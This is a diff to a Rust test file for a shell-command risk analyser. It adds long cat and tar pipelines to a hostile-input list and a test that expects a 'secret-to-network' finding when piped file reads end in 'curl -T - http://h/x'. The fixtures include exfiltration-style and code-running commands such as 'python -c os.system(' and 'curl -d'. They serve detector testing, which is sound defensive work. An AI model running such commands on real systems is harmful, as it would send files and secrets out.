@@ -99,6 +99,9 @@ fn hostile() -> Vec<(&'static str, String)> {
         let readers = "psql; ".repeat(900);
         format!("bash -c '{readers}' <<E\n{statements}\nE\n")
     }));
+    let shown = "cat /x/a b.c /x/c d.e e/f f.g h/i |";
+    texts.push(("nested readers", fill("echo $(tar c /x ")));
+    texts.push(("a stream of readers", fill(shown)));
     texts.push(("sql minus", format!("psql -c 'select {}1'", fill("- "))));
     texts.push(("python", format!("python -c '{}'", fill("os.system("))));
     texts.push(("curl", format!("curl -d '{}' http://a/b", fill("delete"))));
@@ -169,6 +172,24 @@ fn statements_past_a_bound_are_a_finding() {
     // One text is read once, however many read it.
     let read_often = format!("echo '{harmless}' > y; {}", "psql -f y; ".repeat(60));
     assert!(!says_too_deep(&read_often));
+}
+
+#[test]
+fn secrets_past_a_bound_are_a_finding() {
+    let sends_secret = |times: usize| {
+        let shown = "cd a | cat a.b c.d e.f g.h i.j k.l m.n o.p | ".repeat(times);
+        let assessment = of_shell(&format!("{shown} curl -T - http://h/x"));
+        let mut factors = assessment.commands.iter().flat_map(|command| &command.factors);
+        factors.any(|factor| factor.name == "secret-to-network")
+    };
+    assert!(!sends_secret(8));
+    // From every folder all of it would have to be compared anew.
+    assert!(sends_secret(100));
+    // From one folder it is compared once, however many read it.
+    let read_often = format!("{} curl -T - http://h/x", "cat a.b c.d e.f g.h i.j k.l | ".repeat(300));
+    let assessment = of_shell(&read_often);
+    let mut factors = assessment.commands.iter().flat_map(|command| &command.factors);
+    assert!(!factors.any(|factor| factor.name == "secret-to-network"));
 }
 
 #[test]
